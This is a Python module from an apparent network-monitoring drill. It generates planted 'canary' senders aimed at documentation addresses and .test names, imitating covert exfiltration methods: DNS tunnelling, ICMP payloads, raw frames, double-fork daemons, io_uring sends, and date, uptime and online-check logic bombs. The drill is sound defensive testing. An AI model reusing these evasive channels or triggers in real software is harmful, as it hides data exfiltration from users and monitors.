"""Planted senders of every class, aimed at documentation addresses and .test names: what the drill must catch.

A canary that is not caught makes its class NOT ASSESSED. Each has a target of its own in each run, so that
nothing else is mistaken for it, and sends at most a few small packets, once.
"""

from __future__ import annotations

import base64
import random
import socket
import struct
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from offramp.drill import sysabi
from offramp.drill.elf import Data, Program
from offramp.drill.netlink import DEVICE, GATEWAY_V4
from offramp.drill.processes import CANARY_DIR, PRIVATE_DIR
from offramp.drill.records import Condition

DELAY_S: Final = 180.0
DATE_BOMB_DAYS: Final = 20
UPTIME_BOMB_DAYS: Final = 200
BROKER: Final = f"{PRIVATE_DIR}/broker.sock"
_NETS: Final = ("192.0.2.", "198.51.100.", "203.0.113.")
_DAY_S: Final = 86400
CLASSES: Final = (
    "plain-socket", "static-raw-syscalls", "double-fork", "dns-tunnel", "io-uring", "icmp-payload", "raw-frame",
    "unix-broker", "int-0x80", "date-bomb", "uptime-bomb", "only-if-online", "delayed",
)  # fmt: skip


@dataclass(frozen=True, kw_only=True)
class Canary:
    """One planted sender.

    Attributes:
        name: unique in the run, also its file's name.
        kind: class that it stands for.
        files: its files below the canary directory.
        argv: how it is started.
        targets: (address or DNS suffix, port) that only it uses.
        channel: "tap" where a frame proves it, "call" where only a system call can.
    """

    name: str
    kind: str
    files: dict[str, bytes]
    argv: tuple[str, ...]
    targets: tuple[tuple[str, int], ...] = ()
    channel: str = "tap"


class _Maker:
    """Makes the canaries of one run from its random stream."""

    def __init__(self, stream: random.Random, python: str, now_s: int, uptime_s: int) -> None:
        self._stream = stream
        self._python = python
        self._now_s = now_s
        self._uptime_s = uptime_s

    def target(self) -> tuple[str, int]:
        """A documentation address and port."""
        return self._stream.choice(_NETS) + str(self._stream.randint(1, 254)), self._stream.randint(20000, 60000)

    def token(self) -> str:
        """16 random letters."""
        return base64.b32encode(self._stream.randbytes(10)).decode().lower()

    def program(self) -> Program:
        """An empty program for this machine."""
        return Program(sysabi.NATIVE)

    def finish(self, name: str, kind: str, program: Program, *targets: tuple[str, int], channel: str = "tap") -> Canary:
        """The canary around a program."""
        path = f"{CANARY_DIR}/{name}"
        return Canary(
            name=name, kind=kind, files={name: program.build()}, argv=(path,), targets=targets, channel=channel
        )

    def udp(self, program: Program, target: tuple[str, int], text: str) -> None:
        """Adds one datagram."""
        address = program.data("peer", _sockaddr(*target))
        body = program.data("text", text.encode())
        program.call("socket", 2, 2, 0)
        program.exit_if_negative()
        handle = program.keep(0)
        program.call("sendto", handle, body, len(text), 0, address, 16)

    def script(self, name: str, kind: str, text: str, *targets: tuple[str, int]) -> Canary:
        """A canary written in Python."""
        path = f"{CANARY_DIR}/{name}.py"
        return Canary(name=name, kind=kind, files={f"{name}.py": text.encode()}, targets=targets,
                      argv=(self._python, "-I", "-S", path))  # fmt: skip

    def plain_socket(self) -> Canary:
        """TCP connect through libc, in Python."""
        address, port = self.target()
        text = f"import socket\ns=socket.socket()\ns.settimeout(2)\ns.connect_ex(({address!r},{port}))\n"
        return self.script("plain-socket", "plain-socket", text, (address, port))

    def static_raw(self) -> Canary:
        """TCP connect from a static image that knows no libc."""
        target, program = self.target(), self.program()
        address = program.data("peer", _sockaddr(*target))
        program.call("socket", 2, 1 | 0o4000, 0)
        program.exit_if_negative()
        program.call("connect", program.keep(0), address, 16)
        pause = program.data("pause", struct.pack("qq", 0, 200_000_000))
        program.call("nanosleep", pause, 0)
        return self.finish("static-raw-syscalls", "static-raw-syscalls", program, target)

    def double_fork(self) -> Canary:
        """A grandchild without parent or session sends."""
        target, program = self.target(), self.program()
        pause = program.data("pause", struct.pack("qq", 0, 60_000_000))
        program.call("clone", 17, 0, 0, 0, 0)
        program.exit_unless_zero()
        program.call("setsid")
        program.call("clone", 17, 0, 0, 0, 0)
        program.exit_unless_zero()
        program.call("nanosleep", pause, 0)
        self.udp(program, target, self.token())
        return self.finish("double-fork", "double-fork", program, target)

    def dns_tunnel(self) -> Canary:
        """Data in the labels of a DNS question."""
        program, suffix = self.program(), f"{self.token()}.test"
        labels = [self.token() + self.token() + self.token(), *suffix.split(".")]
        name = b"".join(bytes((len(label),)) + label.encode() for label in labels) + b"\0"
        query = (
            struct.pack("!HHHHHH", self._stream.randint(1, 65535), 0x0100, 1, 0, 0, 0)
            + name
            + struct.pack("!HH", 16, 1)
        )
        address = program.data("peer", _sockaddr(GATEWAY_V4, 53))
        body = program.data("text", query)
        program.call("socket", 2, 2, 0)
        program.exit_if_negative()
        program.call("sendto", program.keep(0), body, len(query), 0, address, 16)
        return self.finish("dns-tunnel", "dns-tunnel", program, (suffix, 53))

    def icmp_payload(self) -> Canary:
        """An echo request that carries data."""
        (address, _), program = self.target(), self.program()
        token = self.token().encode() * 3
        body = program.data("text", struct.pack("!BBHHH", 8, 0, 0, 0, 1) + token)
        peer = program.data("peer", _sockaddr(address, 0))
        program.call("socket", 2, 2, 1)
        program.exit_if_negative()
        program.call("sendto", program.keep(0), body, 8 + len(token), 0, peer, 16)
        return self.finish("icmp-payload", "icmp-payload", program, (address, -1))

    def raw_frame(self) -> Canary:
        """An Ethernet frame of an experimental type (0x88B5), past the IP stack."""
        program = self.program()
        mac = bytes((2, *self._stream.randbytes(5)))
        frame = mac + bytes.fromhex("020000006f0288b5") + self.token().encode() * 3
        request = DEVICE.encode().ljust(12, b"\0") + struct.pack("H", 17) + b"\0" * 2
        link = program.data("link", request + b"\0" * 24)
        body = program.data("text", frame)
        program.call("socket", 17, 3, 0)
        program.exit_if_negative()
        handle = program.keep(0)
        program.call("ioctl", handle, 0x8933, link)
        program.call("sendto", handle, body, len(frame), 0, Data("link", 12), 20)
        return self.finish("raw-frame", "raw-frame", program, (mac.hex(":"), 0x88B5))

    def unix_broker(self) -> Canary:
        """A path socket that a process outside listens on."""
        program = self.program()
        peer = program.data("peer", struct.pack("H", 1) + BROKER.encode() + b"\0")
        program.call("socket", 1, 1, 0)
        program.exit_if_negative()
        program.call("connect", program.keep(0), peer, 3 + len(BROKER))
        return self.finish("unix-broker", "unix-broker", program, channel="call")

    def int_80(self) -> Canary:
        """TCP connect through the 32-bit entry of a 64-bit kernel."""
        target, program = self.target(), self.program()
        address = program.data("peer", _sockaddr(*target))
        program.call_80(359, 2, 1 | 0o4000, 0)
        program.exit_if_negative()
        program.call_80(362, program.keep(0), address, 16)
        pause = program.data("pause", struct.pack("qq", 0, 200_000_000))
        program.call("nanosleep", pause, 0)
        return self.finish("int-0x80", "int-0x80", program, target)

    def date_bomb(self) -> Canary:
        """Speaks only after a date, read by a raw system call."""
        target, program = self.target(), self.program()
        place = program.data("now", b"\0" * 16)
        program.call("clock_gettime", 0, place)
        program.exit_if_below(place, self._now_s + DATE_BOMB_DAYS * _DAY_S)
        self.udp(program, target, self.token())
        return self.finish("date-bomb", "date-bomb", program, target)

    def date_bomb_libc(self) -> Canary:
        """Speaks only after a date, read through libc (and the vDSO where there is one)."""
        address, port = self.target()
        text = (f"import socket,time\nif time.time()>{self._now_s + DATE_BOMB_DAYS * _DAY_S}:\n"
                f" socket.socket(2,2).sendto({self.token().encode()!r},({address!r},{port}))\n")  # fmt: skip
        return self.script("date-bomb-libc", "date-bomb", text, (address, port))

    def uptime_bomb(self) -> Canary:
        """Speaks only after long uptime."""
        target, program = self.target(), self.program()
        place = program.data("now", b"\0" * 16)
        program.call("clock_gettime", 1, place)
        program.exit_if_below(place, self._uptime_s + UPTIME_BOMB_DAYS * _DAY_S)
        self.udp(program, target, self.token())
        return self.finish("uptime-bomb", "uptime-bomb", program, target)

    def only_if_online(self) -> Canary:
        """Speaks only when a first connection succeeds."""
        first, second, program = self.target(), self.target(), self.program()
        address = program.data("first", _sockaddr(*first))
        program.call("socket", 2, 1, 0)
        program.exit_if_negative()
        program.call("connect", program.keep(0), address, 16)
        program.exit_unless_zero()
        self.udp(program, second, self.token())
        return self.finish("only-if-online", "only-if-online", program, second)

    def delayed(self) -> Canary:
        """Speaks after some minutes."""
        target, program = self.target(), self.program()
        pause = program.data("pause", struct.pack("qq", int(DELAY_S), 0))
        program.call("nanosleep", pause, 0)
        self.udp(program, target, self.token())
        return self.finish("delayed", "delayed", program, target)

    def io_uring(self) -> Canary:
        """A datagram sent through a ring, without a send system call."""
        from offramp.drill.ring_canary import script_text

        address, port = self.target()
        return self.script("io-uring", "io-uring", script_text(address, port, self.token()), (address, port))


def make(seed: int, *, python: str, now_s: int, uptime_s: int) -> tuple[Canary, ...]:
    """Every canary of one run.

    Args:
        seed: of the targets and tokens.
        python: interpreter for those written in Python.
        now_s, uptime_s: the host's calendar time and uptime when the drill began.
    """
    maker = _Maker(random.Random(seed), python, now_s, uptime_s)
    makers: list[Callable[[], Canary]] = [
        maker.plain_socket, maker.io_uring, maker.date_bomb_libc,
        *([maker.static_raw, maker.double_fork, maker.dns_tunnel, maker.icmp_payload, maker.raw_frame,
           maker.unix_broker, maker.date_bomb, maker.uptime_bomb, maker.only_if_online, maker.delayed]
          if sysabi.NATIVE else []),
        *([maker.int_80] if sysabi.NATIVE == sysabi.AUDIT_X86_64 else []),
    ]  # fmt: skip
    return tuple(one() for one in makers)


def is_expected(canary: Canary, condition: Condition, *, virtual_s: float) -> bool:
    """Whether a condition should make a canary speak where the drill can see it.

    Args:
        virtual_s: virtual time that the canary lived under this condition.
    """
    online = condition.mode == "accept"
    days = condition.real_shift_s / _DAY_S
    uptime_days = condition.uptime_shift_s / _DAY_S
    if condition.mode == "host":
        return False
    if canary.channel == "call":
        return condition.watching == "calls"
    if condition.mode == "none":
        return False
    return {
        "date-bomb": days >= DATE_BOMB_DAYS and not condition.returns, "uptime-bomb": uptime_days >= UPTIME_BOMB_DAYS,
        "only-if-online": online, "delayed": condition.rate != 1 and virtual_s >= DELAY_S,
    }.get(canary.kind, True)  # fmt: skip


def _sockaddr(address: str, port: int) -> bytes:
    return struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(address) + b"\0" * 8
